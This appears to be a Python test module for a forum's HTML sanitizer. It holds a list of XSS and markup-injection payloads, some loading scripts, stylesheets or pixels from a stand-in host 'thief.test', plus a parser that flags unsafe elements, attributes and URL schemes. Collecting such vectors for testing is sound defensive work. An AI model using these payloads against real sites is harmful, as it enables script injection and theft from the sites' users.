"""What clean HTML may never hold, and texts that try to smuggle it in."""

import re
from html.parser import HTMLParser

from forum.markup import CLASSES, TAGS

NEVER = {"script", "style", "iframe", "object", "embed", "form", "svg", "math", "base"}
VOID = {"br", "hr", "img", "input"}

VECTORS = [
    "<script>steal()</script>",
    "<ScRiPt src=//thief.test/x.js></sCrIpT>",
    "<scr<script>ipt>nest()</scr</script>ipt>",
    "<img src=x onerror=run()>",
    "<img src='/files/1/a.png' onload='run()'>",
    "<svg><animate onbegin=run() attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=run()></style></math>",
    "<iframe srcdoc='<b>hello'></iframe>",
    "<object data='data:text/html,x'></object>",
    "<form action=/log-out method=post><button>Continue</button></form>",
    "<input autofocus onfocus=run()>",
    "<div class='callout callout-warning' id=main style='position:fixed'>fake</div>",
    "<kbd class=tag onclick=run()>x</kbd>",
    "<details open ontoggle=run()><summary>s</summary>t</details>",
    "<details><summary><img src=x onerror=run()></summary>\n\ntext\n\n</details>",
    "<a href='java&#115;cript:run()' target=_blank name=x>y</a>",
    "<base href='//thief.test/'>",
    "<meta http-equiv=refresh content='0;url=//thief.test'>",
    "<link rel=stylesheet href=//thief.test/x.css>",
    "<style>@import '//thief.test/x.css'</style>",
    "<b><i onmouseover=run()>deep</i></b>",
    "<!--><script>run()</script>-->",
    "<![CDATA[<script>run()</script>]]>",
    "[tap](javascript:run())",
    "[tap](JaVaScRiPt:run())",
    "[tap](java\tscript:run())",
    "[tap](&#x6A;avascript:run())",
    "[tap](&#106;&#97;vascript&colon;run())",
    "[tap](<javascript:run()>)",
    "[tap](\u200bjavascript:run())",
    "[tap](vbscript:run())",
    "[tap](data:text/html;base64,PGI+)",
    "[tap](/ok \"x' onclick='run()\")",
    "[tap](/ok 'x\" onclick=\"run()')",
    "[ref]\n\n[ref]: javascript:run()",
    "<javascript://%0arun()>",
    "<data://text/html,run()>",
    "![p](javascript:run())",
    "![p](data:image/svg+xml,<svg/onload=run()>)",
    "![p](https://thief.test/pixel.png)",
    "![p](//thief.test/pixel.png)",
    "![p](/files/../log-out)",
    "![p](/files/1/../../log-out)",
    "![p](\\\\thief.test\\x.png)",
    '![p" onerror="run()](/files/1/a.png)',
    '```" onclick="run()\ncode\n```',
    "```{.x #content onclick=run()}\ncode\n```",
    "~~~html\n</code></pre><script>run()</script>\n~~~",
    "`</code><script>run()</script>`",
    "[[<img src=x onerror=run()>]]",
    '[[7|"><script>run()</script>]]',
    "@dana\"onclick=run() #tag'onclick=run()",
    '# content\n\n## <script>run()</script>\n\n## " onclick=run()',
    '!!! note"onclick=run()" "<script>run()</script>"\n    x',
    "> [!NOTE]\n> <script>run()</script>",
    "[^<x>]\n\n[^<x>]: <script>run()</script>",
    "| <script> | b |\n|---|---|\n| <img src=x onerror=run()> | `|` |",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
    'https://ok.test/"onmouseover=run()//',
    '- [ ] <b onclick=run()>"> task',
]


class Inspector(HTMLParser):
    """Collects each breach of the promise, and whether elements are balanced."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.open: list[str] = []
        self.ids: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS or tag in NEVER:
            self.faults.append(f"element {tag}")
        for name, value in attrs:
            self.check(tag, name, value or "")
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.faults.append(f"unbalanced {tag}")

    def handle_comment(self, data):
        self.faults.append("comment")

    def check(self, tag, name, value):
        if name.startswith("on") or name in {"style", "name", "target", "srcset"}:
            self.faults.append(f"attribute {name}")
        if name == "id":
            self.ids.append(value)
            if not re.match(r"(s-|fn-|fnref)", value):
                self.faults.append(f"id {value}")
        if name == "class" and not set(value.split()) <= CLASSES:
            self.faults.append(f"class {value}")
        if name == "src" and not re.match(r"/files/\d+/[^/.]", value):
            self.faults.append(f"src {value}")
        if name == "href":
            target = re.sub(r"[\x00-\x20\u200b-\u200f\ufeff]", "", value).lower()
            scheme = re.match(r"([^/?#]*?):", target)
            if scheme and scheme[1] not in {"http", "https", "mailto"}:
                self.faults.append(f"href {value}")


def faults(html: str) -> list[str]:
    """Name every breach found in the HTML; an empty list is what we want."""
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    twice = len(inspector.ids) != len(set(inspector.ids))
    return (
        inspector.faults
        + [f"open {tag}" for tag in inspector.open]
        + (["an id stands twice"] if twice else [])
    )
